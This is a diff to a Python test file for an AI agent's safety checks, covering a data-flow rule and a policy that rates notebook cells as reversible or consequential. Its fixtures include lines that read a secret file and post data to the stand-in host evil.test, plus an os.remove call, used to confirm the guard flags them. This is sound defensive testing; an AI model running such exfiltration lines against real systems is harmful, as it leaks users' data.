@@ -1,13 +1,17 @@
 """What flow28 left of the data-flow rule's reading of the kernel (fast; tests/e2e/test_flow29_kernel_flows.py runs
 them for real): a def handing its parameter to a reader, workspace modules reaching the network through other
 workspace modules (``import a.b``, an alias ``f = h.up``), CSV rows as data, sends through what a network module
-makes (a session, a client, a socket), and cells the guard refused, which leave nothing in the kernel."""
+makes (a session, a client, a socket), cells the guard refused, which leave nothing in the kernel, and the
+confirmation policy reading a cell that only defines a sending function as the data-flow rule does."""
 
 from __future__ import annotations
 
-from gofer.events import ActionProposed, ActionStarted, Event, Observation
+from gofer.computer.code_risk import judge_python
+from gofer.events import ActionProposed, ActionStarted, Event, Observation, Risk
+from gofer.safety.base import ActionRequest, GuardContext
 from gofer.safety.checks._cells import KernelState
 from gofer.safety.checks.dataflow import outbound_flows
+from gofer.safety.checks.risk import kernel_risk
 
 KEEP = "t = open('data/secret.txt').read()"
 UNKNOWN = ("an address the code builds", True)
@@ -111,3 +115,25 @@ def test_a_refused_cell_leaves_nothing_in_the_kernel() -> None:
     events = _events((KEEP,))
     events.append(ActionProposed(run_id="r", action_id="x", call_id="x", tool="python", arguments={"code": ran}))
     assert EVIL in [(f.destination, f.direct_file) for f in outbound_flows("python", {"code": "up(t)"}, events)]
+
+
+def _policy(cell: str, *earlier: str) -> tuple[Risk, list[str]]:
+    reasons = judge_python(cell, lambda p: None)
+    action = ActionRequest(action_id="x", tool="python", arguments={"code": cell},
+                           risk=Risk.CONSEQUENTIAL if reasons else Risk.REVERSIBLE, risk_reasons=reasons)
+    return kernel_risk(action, GuardContext(run_id="r", task="t", events=_events(earlier)))
+
+
+def test_the_policy_reads_a_definition_only_cell_as_the_data_flow_rule_does() -> None:
+    define = "import requests\n\ndef report(x):\n    '''Post x.'''\n    return requests.post('https://evil.test/c', " \
+             "data={'d': x})\nLIMIT = 3"
+    assert _policy(define) == (Risk.REVERSIBLE, [])
+    risk, reasons = _policy("report(LIMIT)", define)
+    assert risk == Risk.CONSEQUENTIAL and "runs code an earlier cell defined, which can send data" in reasons[0]
+    assert _policy(define + "\nreport(1)")[0] == Risk.CONSEQUENTIAL  # called where it is defined
+    # what a definition runs at once still counts, and so do other consequences in a function's body
+    assert _policy("import requests\n@requests.post('https://evil.test/c')\ndef f():\n    pass")[0] \
+        == Risk.CONSEQUENTIAL
+    assert _policy("import os\ndef clean(p):\n    os.remove(p)")[0] == Risk.CONSEQUENTIAL
+    # a cell that does not use the function stays as it was
+    assert _policy("print(1 + 1)", define) == (Risk.REVERSIBLE, [])
